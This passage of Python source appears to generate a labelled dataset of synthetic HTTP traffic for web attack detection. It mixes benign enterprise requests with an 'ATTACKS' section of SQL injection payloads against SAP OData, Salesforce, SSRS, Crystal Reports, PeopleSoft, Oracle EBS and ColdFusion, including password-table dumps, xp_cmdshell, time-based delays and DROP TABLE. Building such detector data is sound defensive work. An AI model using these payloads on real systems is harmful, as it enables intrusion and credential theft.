        body = multipart([fd_field("deployment-name", name.lower().replace(" ", "-")), fd_field("deployment-source", "Camunda Modeler"),
                          fd_field("enable-duplicate-filtering", "true"), fd_field("deploy-changed-only", "true"),
                          fd_file("%s.bpmn" % name.lower().replace(" ", "_"), "%s.bpmn" % name.lower().replace(" ", "_"), "application/octet-stream", bpmn)], bnd)
        add("POST", "/engine-rest/deployment/create", ch("multipart/form-data; boundary=" + bnd), body, host=host)
    for i in range(10):
        first, last = person(r)
        kind = i % 4
        if kind == 0:
            body = json.dumps({"variables": {"amount": {"value": round(r.uniform(10, 25000), 2), "type": "Double"},
                                             "creditor": {"value": r.choice(COMPANIES), "type": "String"},
                                             "invoiceCategory": {"value": r.choice(["Travel Expenses", "Misc", "Software License Costs"]), "type": "String"},
                                             "invoiceNumber": {"value": "GPFE-%d-%d" % (r.randint(1000, 9999), r.randint(10, 99)), "type": "String"}},
                               "businessKey": "INV-%d" % r.randint(1, 99999)}, ensure_ascii=False)
            add("POST", "/engine-rest/process-definition/key/invoice/start", ch(), body, host=host)
        elif kind == 1:
            body = json.dumps({"variables": {"approved": {"value": r.choice([True, False])},
                                             "comment": {"value": r.choice(["OK – within budget", "Rejected: duplicate of INV-4711", "Approve, but split 50/50 with R&D", "Pls attach receipt (>25 EUR)"])}}})
            add("POST", "/engine-rest/task/%s/complete" % ruuid(r), ch(), body, host=host)
        elif kind == 2:
            add("GET", "/engine-rest/task?processInstanceBusinessKeyLike=%s&sortBy=created&sortOrder=desc&maxResults=50&candidateGroup=accounting" % q("INV-2024%"), ch(), host=host)
        else:
            body = json.dumps({"workerId": "erp-worker-%d" % r.randint(1, 4), "maxTasks": 10, "usePriority": True, "asyncResponseTimeout": 30000,
                               "topics": [{"topicName": "erp-booking", "lockDuration": 60000, "variables": ["amount", "creditor", "invoiceNumber"]}]})
            add("POST", "/engine-rest/external-task/fetchAndLock", ch(), body, host=host)
    # DMN decision evaluation and history
    for i in range(5):
        body = json.dumps({"variables": {"amount": {"value": r.randint(10, 20000), "type": "Integer"},
                                         "invoiceCategory": {"value": r.choice(["Travel Expenses", "Misc"]), "type": "String"}}})
        add("POST", "/engine-rest/decision-definition/key/invoice-assign-approver/evaluate", ch(), body, host=host)
    add("GET", "/engine-rest/history/process-instance?finishedAfter=%s&processDefinitionKey=invoice&sortBy=endTime&sortOrder=desc" % q("2024-01-01T00:00:00.000+0100"), ch(), host=host)
    add("GET", "/camunda/app/cockpit/default/#/processes?searchQuery=%s" % q('[{"type":"PIprocessDefinitionKey","operator":"eq","value":"invoice"}]'), browser(r), host=host)


def b_csv(c):
    r = rng("b_csv")
    add = B(c, "import", "spreadsheet")
    host = "intranet.corp.example"
    for i in range(14):
        kind = i % 4
        if kind == 0:
            rows = ["Employee ID;Name;Cost Center;Amount;Currency;Comment"]
            for _ in range(r.randint(3, 10)):
                first, last = person(r)
                rows.append('%06d;"%s, %s";%d;%s;EUR;"%s"' % (r.randint(1, 999999), last, first, r.randint(1000, 9999),
                                                            r.choice(["1.234,50", "-120,00", "99,90", "+15,00"]), r.choice(["Reisekosten Jan.", "Korrektur (Storno)", "", "Bewirtung – 4 Pers."])))
            fn, ct, content = "payroll_adjust_%02d.csv" % r.randint(1, 12), "text/csv", "\r\n".join(rows) + "\r\n"
        elif kind == 1:
            rows = ["Vendor,Contact,Phone,Email,Terms"]
            for _ in range(r.randint(3, 8)):
                first, last = person(r)
                rows.append('"%s","%s %s",%s,%s,"%s"' % (r.choice(COMPANIES).replace('"', '""'), first, last,
                                                         r.choice(["+44 20 7946 %04d" % r.randint(0, 9999), "+1-212-555-%04d" % r.randint(0, 9999), "(0)6227 7-%05d" % r.randint(0, 99999)]),
                                                         email_of(first, last, "vendor.example"), r.choice(["Net 30", "2% 10, Net 30", "Net 60 / EOM"])))
            fn, ct, content = "vendors.csv", "application/vnd.ms-excel", "\r\n".join(rows) + "\r\n"
        elif kind == 2:
            rows = "".join('<Row><Cell><Data ss:Type="String">%s</Data></Cell><Cell><Data ss:Type="Number">%d</Data></Cell><Cell ss:Formula="=RC[-1]*1.19"><Data ss:Type="Number">%.2f</Data></Cell></Row>'
                           % (xml_esc(r.choice(MATERIALS)), r.randint(1, 500), r.uniform(1, 500)) for _ in range(r.randint(2, 6)))
            content = ('<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
                       'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">'
                       '<Worksheet ss:Name="Bestellung"><Table><Row><Cell><Data ss:Type="String">Material</Data></Cell><Cell><Data ss:Type="String">Menge</Data></Cell>'
                       '<Cell><Data ss:Type="String">Brutto</Data></Cell></Row>%s</Table></Worksheet></Workbook>\n' % rows)
            fn, ct = "Bestellung.xml", "text/xml"
        else:
            rows = ["MATNR\tWERKS\tLGORT\tMENGE\tMEINS\tMAKTX"]
            for _ in range(r.randint(3, 10)):
                rows.append("%018d\t1010\t%04d\t%d\tST\t%s" % (r.randint(1, 10 ** 8), r.randint(1, 9999), r.randint(1, 999), r.choice(MATERIALS)))
            fn, ct, content = "Bestand_Werk1010.txt", "text/plain; charset=ISO-8859-1", "\r\n".join(rows) + "\r\n"
        bnd = boundary_dotnet(r) if r.random() < 0.5 else boundary_webkit(r)
        body = multipart([fd_file("ctl00$MainContent$fuImport" if kind != 3 else "file", fn, ct, content),
                          fd_field("ctl00$MainContent$ddlMapping", r.choice(["Default", "SAP Export", "DATEV"])),
                          fd_field("ctl00$MainContent$chkHeaderRow", "on")], bnd)
        h = browser(r, cookie=aspnet_cookie(r), referer="https://%s/Import/Upload.aspx" % host)
        h.append(["Content-Type", "multipart/form-data; boundary=" + bnd])
        add("POST", "/Import/Upload.aspx", h, body, host=host)
    # JSON grid save from a spreadsheet-like UI
    for i in range(6):
        rows = [{"row": n, "account": "%d" % r.randint(400000, 499999), "text": r.choice(["Accrual Jan – audit fees", "Reclass 4711 -> 4712", "FX diff (USD/EUR)", "Rückstellung Urlaub"]),
                 "debit": round(r.uniform(0, 9999), 2), "credit": 0, "costCenter": "CC-%d" % r.randint(1000, 9999)} for n in range(1, r.randint(3, 8))]
        h = browser(r, accept="application/json", ajax=True, cookie=jsession(r))
        h.append(["Content-Type", "application/json"])
        add("POST", "/gl/journal/%d/lines" % r.randint(1, 99999), h, json.dumps({"lines": rows, "currency": "EUR", "postingDate": "2024-01-31"}, ensure_ascii=False), host="portal.corp.example")


def b_misc(c):
    r = rng("b_misc")
    add = B(c, "static", "static")
    for p in ["/favicon.ico", "/Content/site.css?v=%s" % rhex(r, 10), "/Scripts/jquery-3.7.1.min.js", "/bundles/modernizr?v=%s" % b64url(rbytes(r, 30)),
              "/images/logo_corp.svg", "/robots.txt", "/healthz", "/readyz", "/api/version", "/Content/fonts/segoeui.woff2",
              "/OA_MEDIA/FNDSSCORP.gif", "/sap/public/bc/ur/Login/assets/corbu/sap_logo.png", "/psp/hrprd/?cmd=login&languageCd=ENG",
              "/CFIDE/scripts/cfform.js", "/names.nsf?Logout&RedirectTo=/"]:
        add("GET", p, browser(r, accept="*/*"), host=r.choice(["intranet.corp.example", "portal.corp.example"]))


# ==========================================================================
# BENIGN: dev-content (code and queries that engineers and admins post)
# ==========================================================================

def d_devcontent(c):
    r = rng("d_devcontent")
    add = B(c, "dev-content", "dev")
    # 1. admins' SQL in reporting tools (8)
    sqls = [
        "SELECT c.CustomerID, c.Name, SUM(o.NetAmount) AS Revenue\nFROM dbo.Customers c\nJOIN dbo.Orders o ON o.CustomerID = c.CustomerID\nWHERE o.OrderDate >= @StartDate AND o.OrderDate < @EndDate\n  AND c.Region IN (@Region)\nGROUP BY c.CustomerID, c.Name\nORDER BY Revenue DESC",
        "SELECT EMPLID, NAME, DEPTID, JOBCODE FROM PS_JOB J WHERE J.EFFDT = (SELECT MAX(J2.EFFDT) FROM PS_JOB J2 WHERE J2.EMPLID = J.EMPLID AND J2.EFFDT <= SYSDATE) AND J.EMPL_STATUS = 'A'",
        "SELECT vendor_name, COUNT(*) invoices, SUM(invoice_amount) total\nFROM ap_invoices_all ai JOIN ap_suppliers s ON s.vendor_id = ai.vendor_id\nWHERE ai.gl_date BETWEEN :p_from AND :p_to\nGROUP BY vendor_name HAVING SUM(invoice_amount) > 10000",
        "WITH x AS (SELECT MATNR, WERKS, SUM(LABST) AS stock FROM MARD GROUP BY MATNR, WERKS)\nSELECT * FROM x WHERE stock = 0 -- dead stock check",
        "UPDATE dbo.ReportSubscriptions SET Enabled = 0 WHERE Owner = 'CORP\\jdoe'; -- left company, see HR ticket 8812",
        "SELECT TOP 100 * FROM ExecutionLog3 WHERE ItemPath LIKE '/Finance/%' ORDER BY TimeStart DESC",
        "SELECT u.UserName, COUNT(1) FROM dbo.Users u LEFT JOIN dbo.Logins l ON l.UserId = u.Id AND l.Success = 1 GROUP BY u.UserName HAVING COUNT(1) = 0",
        "select sum(case when status = 'OPEN' then 1 else 0 end) as open_cnt, sum(case when status <> 'OPEN' then 1 else 0 end) as other from tickets where created_at > now() - interval '30 days'",
    ]
    for i, sql in enumerate(sqls):
        if i % 3 == 0:
            rdl = ('<?xml version="1.0" encoding="utf-8"?><Report xmlns="http://schemas.microsoft.com/sqlserver/reporting/2016/01/reportdefinition">'
                   '<DataSources><DataSource Name="DW"><DataSourceReference>/Data Sources/DW</DataSourceReference></DataSource></DataSources>'
                   '<DataSets><DataSet Name="Main"><Query><DataSourceName>DW</DataSourceName><CommandText>%s</CommandText></Query></DataSet></DataSets></Report>' % xml_esc(sql))
            bnd = boundary_webkit(r)
            body = multipart([fd_file("File", "MonthlySales_%d.rdl" % i, "application/octet-stream", rdl), fd_field("Overwrite", "true")], bnd)
            h = browser(r, cookie=aspnet_cookie(r))
            h.append(["Content-Type", "multipart/form-data; boundary=" + bnd])
            add("POST", "/reports/api/v2.0/CatalogItems/upload?path=%2FFinance", h, body, host="reports.corp.example")
        else:
            h = browser(r, cookie=jsession(r), accept="application/json", ajax=True)
            h.append(["Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"])
            add("POST", "/bi/adhoc/query/run", h, form([("datasource", r.choice(["DW_PROD", "EBS_RO", "HRPRD_RO"])), ("sql", sql), ("maxRows", "1000")]), host="bi.corp.example")
    # 2. SOQL through the REST query endpoint (6)
    soqls = ["SELECT Id, Name, BillingCity FROM Account WHERE LastModifiedDate > 2024-01-01T00:00:00Z ORDER BY Name LIMIT 200",
             "SELECT Id, Subject, Status FROM Case WHERE Status != 'Closed' AND Owner.Name = 'Integration User'",
             "SELECT Id, (SELECT Id, LastName FROM Contacts) FROM Account WHERE Name LIKE 'O\\'Hara%'",
             "SELECT COUNT() FROM Opportunity WHERE StageName = 'Closed Won' AND CloseDate = THIS_QUARTER",
             "SELECT Id, Name FROM Contact WHERE Email IN ('a.mueller@fabrikam.de','p.obrien@contoso.com')",
             "SELECT Account.Name, SUM(Amount) total FROM Opportunity GROUP BY Account.Name HAVING SUM(Amount) > 100000"]
    for s in soqls:
        add("GET", "/services/data/v59.0/query?q=" + qp(s), [["User-Agent", "simple-salesforce/1.12.5"], ["Authorization", "Bearer 00D" + ralnum(r, 110)], ["Accept", "application/json"]],
            host="corp.my.salesforce.example")
    # 3. XSLT / integration mappings pasted into tickets (5)
    xslts = [
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">\n  <xsl:template match="/Order">\n    <PurchaseOrder id="{@number}">\n      <xsl:for-each select="Lines/Line[Qty &gt; 0]">\n        <Item sku="{Sku}"><xsl:value-of select="format-number(Price, \'#,##0.00\')"/></Item>\n      </xsl:for-each>\n    </PurchaseOrder>\n  </xsl:template>\n</xsl:stylesheet>',
        'The MDN mapping breaks on <xsl:if test="contains(Disposition, \'processed\')"> when the partner sends "processed/warning". Proposed fix:\n<xsl:when test="starts-with(normalize-space(Disposition), \'automatic-action\')">',
        'PI mapping UDF (Java):\npublic String pad(String s, int n) { return String.format("%-" + n + "s", s == null ? "" : s); }\nUsed for the COMMAREA fields (CUST_NAME is PIC X(30)).',
        'X12 997 for ctrl 000000123 shows AK5*R*5 – segment N4 had 3 elements. Our map: N4*<xsl:value-of select="City"/>*<xsl:value-of select="State"/>*<xsl:value-of select="Zip"/>~',
        'EDIFACT release char issue: "O?\'HARA" must be escaped as ?\' in NAD. Regex we use: s/([?+:\'])/?\\1/g',
    ]
    for x in xslts:
        body = json.dumps({"fields": {"comment": x, "visibility": "internal"}, "ticket": "INT-%d" % r.randint(100, 9999)}, ensure_ascii=False)
        h = browser(r, accept="application/json", ajax=True, cookie=jsession(r))
        h.append(["Content-Type", "application/json"])
        add("POST", "/rest/api/2/issue/INT-%d/comment" % r.randint(100, 9999), h, body, host="jira.corp.example")
    # 4. shell / PowerShell snippets in tickets and runbooks (8)
    shells = [
        "To re-send the stuck AS2 files:\n  cd /opt/openas2/data/outbox && for f in *.edi; do mv \"$f\" ../toPartner/; done\nthen check logs with: tail -f /var/log/openas2.log | grep -i mdn",
        "Verify the partner cert: openssl smime -verify -in msg.p7m -inform DER -noverify -out payload.edi && head -c 106 payload.edi",
        "Get-ADUser -Filter {Department -eq 'Finance' -and Enabled -eq $true} -Properties mail | Select-Object Name,mail | Export-Csv C:\\temp\\fin.csv -NoTypeInformation",
        "curl -s -u \"$SF_USER:$SF_PASS\" \"https://corp.my.salesforce.example/services/data/v59.0/limits\" | jq '.DailyApiRequests'",
        "iconv -f IBM037 -t UTF-8 CUSTFILE.DAT > cust.txt  # EBCDIC -> UTF-8, then: cut -c1-10,11-40 cust.txt",
        "Restart after patch: sudo systemctl restart coldfusion2021 && sleep 30 && curl -sf http://localhost:8500/CFIDE/administrator/ >/dev/null || echo FAIL",
        "Invoke-WebRequest -Uri https://reports.corp.example/ReportServer -UseDefaultCredentials; if ($LASTEXITCODE -ne 0) { Write-Error 'SSRS down' }",
        "Cron for the EDI poller: */5 * * * * /opt/edi/bin/poll.sh >> /var/log/edi/poll.log 2>&1",
    ]
    for s in shells:
        if r.random() < 0.5:
            body = json.dumps({"short_description": "Runbook update", "work_notes": s, "assignment_group": "Integration Ops"}, ensure_ascii=False)
            h = browser(r, accept="application/json", ajax=True, cookie="glide_user_route=glide." + rhex(r, 32))
            h.append(["Content-Type", "application/json"])
            add("PATCH", "/api/now/table/incident/%s" % rhex(r, 32), h, body, host="servicenow.corp.example")
        else:
            h = browser(r, cookie=jsession(r))
            h.append(["Content-Type", "application/x-www-form-urlencoded"])
            add("POST", "/wiki/pages/doeditpage.action?pageId=%d" % r.randint(10 ** 6, 10 ** 8), h,
                form([("atl_token", rhex(r, 40)), ("title", "Runbook – integration ops"), ("wysiwygContent", "<p>%s</p>" % xml_esc(s).replace("\n", "<br/>"))]), host="wiki.corp.example")
    # 5. Apex / ABAP code via tooling APIs and code review (5)
    codes = [
        ("apex", "public with sharing class AccountSearch {\n  @AuraEnabled public static List<Account> find(String term) {\n    String t = '%' + String.escapeSingleQuotes(term) + '%';\n    return Database.query('SELECT Id, Name FROM Account WHERE Name LIKE :t LIMIT 50');\n  }\n}"),
        ("apex", "trigger CaseBefore on Case (before insert) {\n  for (Case c : Trigger.new) { if (c.Subject != null && c.Subject.contains('URGENT')) c.Priority = 'High'; }\n}"),
        ("abap", "SELECT vbeln, erdat, netwr FROM vbak INTO TABLE @DATA(lt_orders) WHERE kunnr = @lv_kunnr AND erdat >= @lv_from.\nLOOP AT lt_orders ASSIGNING FIELD-SYMBOL(<ls>). WRITE: / <ls>-vbeln. ENDLOOP."),
        ("cfml", "<cfquery name=\"qUser\" datasource=\"#application.dsn#\">\n  SELECT id, name FROM users WHERE id = <cfqueryparam value=\"#url.id#\" cfsqltype=\"cf_sql_integer\">\n</cfquery>\n<cfoutput>#encodeForHTML(qUser.name)#</cfoutput>"),
        ("jsf", "<h:form id=\"f\">\n  <h:inputText value=\"#{orderBean.customer}\" required=\"true\"/>\n  <p:commandButton value=\"Save\" action=\"#{orderBean.save}\" update=\"@form\" rendered=\"#{facesContext.externalContext.isUserInRole('buyer')}\"/>\n</h:form>"),
    ]
    for lang, code in codes:
        if lang == "apex" and r.random() < 0.7:
            body = json.dumps({"Name": "AccountSearch", "Body": code} if "class" in code else {"Name": "CaseBefore", "TableEnumOrId": "Case", "Body": code})
            add("POST", "/services/data/v59.0/tooling/sobjects/%s" % ("ApexClass" if "class" in code else "ApexTrigger"),
                [["User-Agent", "sfdx-cli/7.209.6 (linux-x64) node-v18.17.1"], ["Authorization", "Bearer 00D" + ralnum(r, 110)], ["Content-Type", "application/json"]], body, host="corp.my.salesforce.example")
        else:
            body = json.dumps({"body": "Please review:\n```%s\n%s\n```" % (lang, code), "path": "src/%s" % lang, "line": r.randint(1, 200)})
            h = browser(r, accept="application/json", ajax=True, cookie="BITBUCKETSESSIONID=" + rHEX(r, 32))
            h.append(["Content-Type", "application/json"])
            add("POST", "/rest/api/1.0/projects/ERP/repos/legacy/pull-requests/%d/comments" % r.randint(1, 999), h, body, host="git.corp.example")
    # 6. LDAP filters in directory-sync configuration (4)
    for flt in ["(&(objectCategory=person)(objectClass=user)(!(userAccountControl:1.2.840.113556.1.4.803:=2)))",
                "(&(objectClass=group)(cn=SAP_*))",
                "(|(memberOf=CN=Finance,OU=Groups,DC=corp,DC=example)(memberOf=CN=Controlling,OU=Groups,DC=corp,DC=example))",
                "(&(objectClass=inetOrgPerson)(mail=*@corp.example))"]:
        body = json.dumps({"name": "AD sync – %s" % r.choice(["EMEA", "Finance", "SAP roles"]), "baseDn": "OU=Users,DC=corp,DC=example", "userFilter": flt,
                           "attributes": ["sAMAccountName", "mail", "department", "manager"], "schedule": "0 2 * * *"})
        h = browser(r, accept="application/json", ajax=True, cookie=jsession(r))
        h.append(["Content-Type", "application/json"])
        add("PUT", "/idm/api/connectors/ad-%d" % r.randint(1, 9), h, body, host="idm.corp.example")
    # 7. BPMN with script tasks (3)
    scripts = ['def amount = execution.getVariable("amount")\nexecution.setVariable("needsCfo", amount > 50000)',
               'var items = execution.getVariable("items");\nvar total = 0; for (var i = 0; i < items.size(); i++) { total += items.get(i).price; }\nexecution.setVariable("total", total);',
               'import groovy.json.JsonSlurper\ndef po = new JsonSlurper().parseText(execution.getVariable("poJson"))\nexecution.setVariable("supplier", po.supplier.name)']
    for s in scripts:
        bpmn = ('<?xml version="1.0" encoding="UTF-8"?><bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:camunda="http://camunda.org/schema/1.0/bpmn" id="d1" targetNamespace="http://bpmn.io/schema/bpmn">'
                '<bpmn:process id="po-check" isExecutable="true"><bpmn:scriptTask id="calc" scriptFormat="%s"><bpmn:script>%s</bpmn:script></bpmn:scriptTask></bpmn:process></bpmn:definitions>'
                % ("groovy" if "def " in s or "import" in s else "javascript", xml_esc(s)))
        bnd = boundary_webkit(r)
        body = multipart([fd_field("deployment-name", "po-check"), fd_file("po-check.bpmn", "po-check.bpmn", "application/octet-stream", bpmn)], bnd)
        add("POST", "/engine-rest/deployment/create", [["User-Agent", "Camunda Modeler/5.19.0"], ["Content-Type", "multipart/form-data; boundary=" + bnd],
                                                       ["Authorization", "Basic " + b64("demo:" + ralnum(r, 10))]], body, host="bpm.corp.example")
    # 8. e-mail templates with markup and schema.org script (4)
    tmpls = [
        '<html><body><script type="application/ld+json">{"@context":"http://schema.org","@type":"EmailMessage","potentialAction":{"@type":"ViewAction","url":"https://portal.corp.example/invoices/{{invoiceId}}","name":"View invoice"}}</script><p>Dear {{customer.name}},</p><p>Invoice {{invoiceId}} is due on {{dueDate | date: "%d.%m.%Y"}}.</p></body></html>',
        '<p>Hi ${firstName},</p>\n<#if openItems?size gt 0><p>You have ${openItems?size} open items:</p><ul><#list openItems as i><li>${i.number} – ${i.amount?string.currency}</li></#list></ul></#if>',
        '<table>{{#each lines}}<tr><td>{{this.sku}}</td><td>{{formatMoney this.price "EUR"}}</td></tr>{{/each}}</table>',
        'Dear @Model.Customer.Name,<br/>@if (Model.IsOverdue) { <b>Your payment is overdue.</b> }<br/>Total: @Model.Total.ToString("C")',
    ]
    for t in tmpls:
        body = json.dumps({"name": "dunning-%d" % r.randint(1, 9), "subject": "Payment reminder {{invoiceId}}", "html": t, "locale": r.choice(["en", "de"])}, ensure_ascii=False)
        h = browser(r, accept="application/json", ajax=True, cookie=jsession(r))
        h.append(["Content-Type", "application/json"])
        add("PUT", "/notifications/api/templates/%d" % r.randint(1, 99), h, body, host="portal.corp.example")
    # 9. config snippets (log4j2, web.config, JNDI datasource) in a config-review tool (4)
    cfgs = [
        '<Configuration status="WARN"><Appenders><RollingFile name="F" fileName="${sys:catalina.base}/logs/app.log" filePattern="${sys:catalina.base}/logs/app-%d{yyyy-MM-dd}.log.gz"><PatternLayout pattern="%d{ISO8601} [%t] %-5level %logger{36} - %msg%n"/></RollingFile></Appenders></Configuration>',
        '<configuration><system.web><compilation debug="false" targetFramework="4.8"/><httpRuntime requestValidationMode="4.5" maxRequestLength="20480"/><pages viewStateEncryptionMode="Always" enableViewStateMac="true"/></system.web></configuration>',
        '<Resource name="jdbc/EBS" auth="Container" type="javax.sql.DataSource" driverClassName="oracle.jdbc.OracleDriver" url="jdbc:oracle:thin:@//ebsdb.corp.example:1521/EBSPRD" username="apps_ro" password="${EBS_RO_PW}" validationQuery="SELECT 1 FROM DUAL"/>',
        'spring.datasource.url=jdbc:sqlserver://sql01.corp.example:1433;databaseName=Orders;encrypt=true\nspring.jpa.properties.hibernate.default_schema=dbo\nlogging.level.org.hibernate.SQL=DEBUG',
    ]
    for cfg in cfgs:
        h = browser(r, accept="application/json", ajax=True, cookie=jsession(r))
        h.append(["Content-Type", "application/json"])
        add("POST", "/config-review/api/snippets", h, json.dumps({"title": "Config change CR-%d" % r.randint(1000, 9999), "content": cfg}), host="git.corp.example")
    # 10. a developer posting sample SOAP/curl in the API portal's "try it" notes (3)
    for note in ["curl -X POST -H 'Content-Type: text/xml; charset=utf-8' -H 'SOAPAction: \"urn:GetOrderStatus\"' --data @req.xml https://api.corp.example/OrderService/OrderService.asmx",
                 "Example $filter: SalesOrderSet?$filter=substringof('ACME',CustomerName) and NetAmount gt 1000&$orderby=CreatedOn desc -- note the doubled '' for quotes",
                 "For the batch call use: --batch_123\\r\\nContent-Type: application/http\\r\\n\\r\\nGET SalesOrderSet?$top=1 HTTP/1.1\\r\\n\\r\\n--batch_123--"]:
        h = browser(r, accept="application/json", ajax=True, cookie=jsession(r))
        h.append(["Content-Type", "application/json"])
        add("POST", "/devportal/api/apis/%s/notes" % r.choice(["order-soap", "sap-odata", "sales-orders"]), h, json.dumps({"text": note}), host="developer.corp.example")


# ==========================================================================
# ATTACKS
# ==========================================================================

def a_sqli(c):
    r = rng("a_sqli")
    # OData $filter / key / $orderby
    add = A(c, "sqli", "odata-sqli")
    odata = [
        ("ZSD_SALES_ORDER_SRV", "SalesOrderSet", [("$filter", "SoldToParty eq '1000' or '1'='1'"), ("$top", "100")]),
        ("API_BUSINESS_PARTNER", "A_BusinessPartner", [("$filter", "substringof('a'' UNION SELECT BNAME,PASSCODE FROM USR02--',BusinessPartnerName)")]),
        ("ZSD_SALES_ORDER_SRV", "SalesOrderSet", [("$orderby", "CreatedOn desc;DROP TABLE ZSD_ORDERS--")]),
        ("ZPM_NOTIFICATION_SRV", "NotificationSet", [("$filter", "Priority le 2) or 1 eq 1 or (Priority eq 9")]),
        ("API_PRODUCT_SRV", "A_Product", [("$filter", "Product eq 'X' AND 1=(SELECT COUNT(*) FROM SYS.USERS WHERE USER_NAME='SYSTEM')--'")]),
        ("FAC_FINANCIAL_DOCUMENT_SRV_01", "Headers", [("$select", "CompanyCode,(SELECT TOP 1 password_hash FROM sys.sql_logins)"), ("$top", "1")]),
        ("ZSD_SALES_ORDER_SRV", "SalesOrderSet", [("$filter", "SalesOrder eq '1'; WAITFOR DELAY '0:0:10'--")]),
        ("ZHR_EMPLOYEE_SRV", "EmployeeSet", [("$filter", "LastName eq 'x' UNION ALL SELECT NULL,USER_NAME,PASSWORD,NULL FROM SYS.USERS--")]),
    ]
    for svc, ent, params in odata:
        add("GET", odata_uri(svc, ent, params), ui5_headers(r), host="fiori.corp.example")
    add("GET", "/odata/Customers('ALFKI''%20OR%20''1''=''1')?$format=json", browser(r, accept="application/json"), host="api.corp.example")
    add("GET", "/odata/Orders(10248%20or%201=1)/Order_Details", browser(r, accept="application/json"), host="api.corp.example")
    add("GET", "/sap/opu/odata/sap/ZSD_SALES_ORDER_SRV/SalesOrderSet('0000012345'')%20AND%20SLEEP(10)%23')", ui5_headers(r), host="fiori.corp.example")
    # $batch body with an injected inner request
    add = A(c, "sqli", "batch-sqli")
    inner = ["GET SalesOrderSet?$filter=" + euc("SoldToParty eq '1' UNION SELECT MANDT,BNAME,BCODE FROM USR02 --") + "&$top=20 HTTP/1.1\r\nAccept: application/json\r\n\r\n"]
    body, bnd = odata_batch(r, inner)
    h = ui5_headers(r, "POST")
    h.insert(2, ["Content-Type", "multipart/mixed;boundary=" + bnd])
    add("POST", "/sap/opu/odata/sap/ZSD_SALES_ORDER_SRV/$batch", h, body, host="fiori.corp.example")
    body, bnd = odata_batch(r, ["GET NotificationSet('1'' OR 1=1--') HTTP/1.1\r\nAccept: application/json\r\n\r\n"])
    h = ui5_headers(r, "POST")
    h.insert(2, ["Content-Type", "multipart/mixed; boundary=" + bnd])
    add("POST", "/sap/opu/odata/sap/ZPM_NOTIFICATION_SRV/$batch", h, body, host="fiori.corp.example")
    # SOQL injection through custom APEX REST
    add = A(c, "sqli", "soql")
    sf = lambda: [["User-Agent", "python-requests/2.31.0"], ["Authorization", "Bearer 00D" + ralnum(r, 100)], ["Accept", "application/json"]]
    for term in ["Acme' OR Name LIKE '%", "x' OR Id != null OR Name = 'x",
                 "%' AND Id IN (SELECT AccountId FROM Contact WHERE Email LIKE '%@%') AND Name LIKE '%",
                 "test'+OR+IsDeleted+=+false+OR+Name='"]:
        add("GET", "/services/apexrest/v1/accounts/search?name=" + (q(term) if "+" not in term else term), sf(), host="corp.my.salesforce.example")
    add("POST", "/services/apexrest/v1/Cases/lookup", sf() + [["Content-Type", "application/json"]],
        json.dumps({"caseNumber": "00001234' OR Subject LIKE '%password%", "status": "Open"}), host="corp.my.salesforce.example")
    # report parameters (SSRS, Crystal, BO)
    add = A(c, "sqli", "report-sqli")
    reps = [
        "/ReportServer?%2fFinance%2fMonthly+Sales&rs:Command=Render&Region=EMEA'+UNION+ALL+SELECT+NULL,name,password_hash,NULL+FROM+sys.sql_logins--&CostCenter=4711",
        "/ReportServer?%2fSales%2fPipeline&rs:Format=CSV&CustomerID=1;EXEC+master..xp_cmdshell+'whoami'--",
        "/ReportServer?%2fHR%2fHeadcount&Dept=1%27%20AND%201%3DCONVERT(int%2C(SELECT%20TOP%201%20name%20FROM%20sysobjects%20WHERE%20xtype%3D%27U%27))--",
        "/CrystalReports/viewrpt.cwr?id=1234&cmd=EXPORT&EXPORT_FMT=U2FPDF:0&promptex-Customer=%22x%22%29%20OR%20%28%221%22%3D%221",
        "/CrystalReports/viewrpt.cwr?id=88&promptex-CustID=1%27%20AND%201%3DCAST%28%40%40version%20AS%20int%29--",
        "/BOE/OpenDocument/opendoc/openDocument.jsp?sIDType=CUID&iDocID=AaGK7&lsSRegion=EMEA%27%20UNION%20SELECT%20USERNAME%2CPASSWORD%20FROM%20ALL_USERS--",
        "/ReportServer?%2fOps%2fOEE&Plant=1010%27;%20IF%20(SELECT%20COUNT(*)%20FROM%20sys.databases)%3E0%20WAITFOR%20DELAY%20%270:0:5%27--",
        "/Reports/report/Finance/Monthly%20Sales?Region=EMEA%27%20AnD%201=1%20Or%20%27a%27=%27b",
    ]
    for u in reps:
        add("GET", u, browser(r, cookie=aspnet_cookie(r, False)), host="reports.corp.example")
    # ERP classics: PeopleSoft, EBS, Siebel, ColdFusion, Domino-less
    add = A(c, "sqli", "erp-sqli")
    erp = [
        ("hr.corp.example", "/psp/hrprd/EMPLOYEE/HRMS/c/ROLE_MANAGER.HR_MSS_CT_DETAIL.GBL?Page=HR_MSS_CT_DETAIL&EMPLID=KU0001%27%20UNION%20SELECT%20OPRID%2COPERPSWD%20FROM%20PSOPRDEFN--"),
        ("ebs.corp.example", "/OA_HTML/OA.jsp?page=/oracle/apps/icx/por/reqmgmt/webui/MyReqsPG&PoSearchValue=x%27||DBMS_PIPE.RECEIVE_MESSAGE(CHR(97)||CHR(98),10)||%27"),
        ("ebs.corp.example", "/OA_HTML/RF.jsp?function_id=1038&resp_id=50558%20AND%201=UTL_INADDR.GET_HOST_NAME((SELECT%20user%20FROM%20dual))"),
        ("ebs.corp.example", "/OA_HTML/OA.jsp?OAFunc=POS_HOME&vendor=1%27%20AND%20EXTRACTVALUE(XMLTYPE(%27%3C%3Fxml%20version%3D%221.0%22%3F%3E%3C!DOCTYPE%20r%3E%3Cr%3E%27||(SELECT%20password%20FROM%20fnd_user%20WHERE%20rownum=1)||%27%3C/r%3E%27),%27/r%27)%20IS%20NOT%20NULL--"),
        ("crm.corp.example", "/callcenter_enu/start.swe?SWECmd=GotoView&SWEView=Account+Detail&SWERowId0=1-ABC12%27%20OR%20%271%27=%271%27--"),
        ("legacy.corp.example", "/catalog/product.cfm?id=5%20UNION%20SELECT%201,@@version,3,4--&CFID=12345&CFTOKEN=67890"),
        ("legacy.corp.example", "/catalog/product.cfm?id=5/**/AnD/**/(SeLeCt/**/1/**/FrOm/**/(SeLeCt/**/SlEeP(5))a)"),
